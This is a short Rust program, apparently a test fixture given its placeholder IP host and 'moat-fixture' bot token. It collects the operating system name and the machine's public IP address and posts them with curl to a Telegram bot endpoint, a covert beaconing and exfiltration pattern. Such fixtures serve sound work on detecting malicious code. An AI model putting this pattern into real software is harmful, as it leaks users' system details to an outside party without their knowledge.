use std::process::Command;

fn main() {
    let system = std::env::consts::OS;
    let address = Command::new("curl").arg("https://ip.example.invalid").output();
    let text = format!("{system} {:?}", address);
    let _ = Command::new("curl")
        .args(["-d", &text])
        .arg("https://api.telegram.org/bot0:moat-fixture/sendMessage")
        .output();
}
